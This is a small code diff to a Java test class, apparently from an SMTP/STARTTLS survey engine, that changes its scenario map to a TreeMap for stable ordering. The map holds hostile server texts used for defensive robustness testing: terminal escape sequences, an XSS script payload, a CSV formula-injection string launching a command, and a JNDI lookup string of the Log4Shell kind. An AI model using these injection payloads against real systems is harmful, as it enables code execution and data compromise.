@@ -6,6 +6,7 @@ import static org.starttls.survey.engine.smtp.Scenario.*;
 import static org.starttls.survey.engine.smtp.Step.say;
 
 import java.util.Map;
+import java.util.TreeMap;
 import java.util.stream.Stream;
 import org.starttls.survey.engine.model.EndpointOutcome;
 import org.starttls.survey.engine.model.Stage;
@@ -13,7 +14,7 @@ import org.starttls.survey.engine.smtp.Scenario.After;
 
 /** Servers whose texts are meant for whoever reads the results: terminals, browsers, spreadsheets, databases, logs. */
 final class HostileTextScenarios {
-    private static final Map<String, String> TEXTS = Map.of(
+    private static final Map<String, String> TEXTS = new TreeMap<>(Map.of(
             "terminal escapes", "\33[2J\33]0;owned\7\33[31m",
             "HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>",
             "CSV formulas", "=cmd|'/c calc'!A1,\"+1+1\",@SUM(1)",
@@ -23,7 +24,7 @@ final class HostileTextScenarios {
             "bytes that are no UTF-8", "\377\376\200\300\257",
             "bidirectional overrides", "\342\200\256txet\342\200\254",
             "transcript lines", "\\nS 250 forged\\x0a",
-            "log lookups", "${jndi:ldap://example.test/a} %n %s {0}");
+            "log lookups", "${jndi:ldap://example.test/a} %n %s {0}"));
 
     private HostileTextScenarios() {}
 
